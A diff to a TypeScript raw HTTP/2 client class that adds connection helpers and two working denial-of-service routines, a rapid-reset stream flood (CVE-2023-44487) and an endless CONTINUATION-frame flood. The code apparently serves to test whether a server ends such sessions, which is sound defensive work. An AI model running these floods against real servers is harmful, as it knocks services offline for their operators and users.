@@ -265,13 +265,41 @@ export class RawH2Connection {
     return this.#isClosed;
   }
 
-  /** Writes bytes as they are; resolves once the socket took them (or was closed). */
+  /**
+   * Writes bytes as they are; resolves once the socket took them (or is
+   * closed) and the event loop had a turn. A write that the kernel takes at
+   * once calls back on the next tick, so a loop of awaited writes would never
+   * read what the peer sends: its GOAWAY would be lost in the reset that a
+   * close with unread bytes causes.
+   */
   write(...chunks: Buffer[]): Promise<void> {
     const bytes = chunks.length === 1 ? chunks[0] : Buffer.concat(chunks);
-    if (this.socket.destroyed) return Promise.resolve();
+    if (this.socket.destroyed) return this.closed;
     return new Promise((resolve) => {
-      this.socket.write(bytes, () => resolve());
+      this.socket.write(bytes, () => setImmediate(resolve));
     });
+  }
+
+  /**
+   * Resolves once SETTINGS went both ways and each side acknowledged the
+   * other's: the server's limits are in force, and no SETTINGS ACK of ours
+   * is still to come (one written inside a header block would be a
+   * protocol error of our own).
+   */
+  async settled(): Promise<void> {
+    await this.nextFrame((f) => f.type === FRAME.SETTINGS && (f.flags & FLAG.ACK) === 0);
+    await this.nextFrame((f) => f.type === FRAME.SETTINGS && (f.flags & FLAG.ACK) !== 0);
+  }
+
+  /**
+   * How the peer ended the connection: its GOAWAY, or `reset` when the
+   * connection closed without one reaching us (a server that closes with our
+   * bytes unread resets the connection, and the reset can overtake its GOAWAY).
+   */
+  async ending(): Promise<Goaway | 'reset'> {
+    await this.closed;
+    const frame = this.frames.find((f) => f.type === FRAME.GOAWAY);
+    return frame ? decodeGoaway(frame) : 'reset';
   }
 
   /** A request's HEADERS frame with the whole block in it. */
@@ -352,4 +380,49 @@ export class RawH2Connection {
       else this.#waiters.push(w);
     }
   }
+}
+
+function ended(c: RawH2Connection): boolean {
+  return c.isClosed || c.frames.some((f) => f.type === FRAME.GOAWAY);
+}
+
+/**
+ * Rapid reset (CVE-2023-44487): streams opened and reset at once, in batches,
+ * until the peer ends the session or `streams` were sent. Returns the streams sent.
+ */
+export async function rapidReset(c: RawH2Connection, streams = 5000, batch = 100): Promise<number> {
+  const block = encodeHeaderBlock(requestFields('/flood'));
+  let sent = 0;
+  let id = 1;
+  while (sent < streams && !ended(c)) {
+    const frames: Buffer[] = [];
+    for (let i = 0; i < batch && sent < streams; i++, sent++, id += 2) {
+      frames.push(headersFrame(id, block), rstStreamFrame(id));
+    }
+    await c.write(...frames);
+  }
+  return sent;
+}
+
+/**
+ * CONTINUATION flood (CVE-2024-27316 class): a header block that never ends,
+ * CONTINUATION frames of `pieceBytes` until the peer ends the session. Waits
+ * for the SETTINGS exchange first: our ACK inside the block would be a
+ * protocol error of our own. Returns the frames sent; throws past `limit`.
+ */
+export async function continuationFlood(
+  c: RawH2Connection,
+  pieceBytes = 1000,
+  limit = 100_000,
+): Promise<number> {
+  await c.settled();
+  await c.write(headersFrame(1, encodeHeaderBlock(requestFields('/flood')), { endHeaders: false }));
+  const piece = encodeHeaderBlock([['x-filler', 'f'.repeat(pieceBytes)]]);
+  let sent = 0;
+  while (!ended(c)) {
+    if (sent >= limit) throw new Error(`the peer took ${limit} CONTINUATION frames`);
+    await c.write(continuationFrame(1, piece));
+    sent++;
+  }
+  return sent;
 }
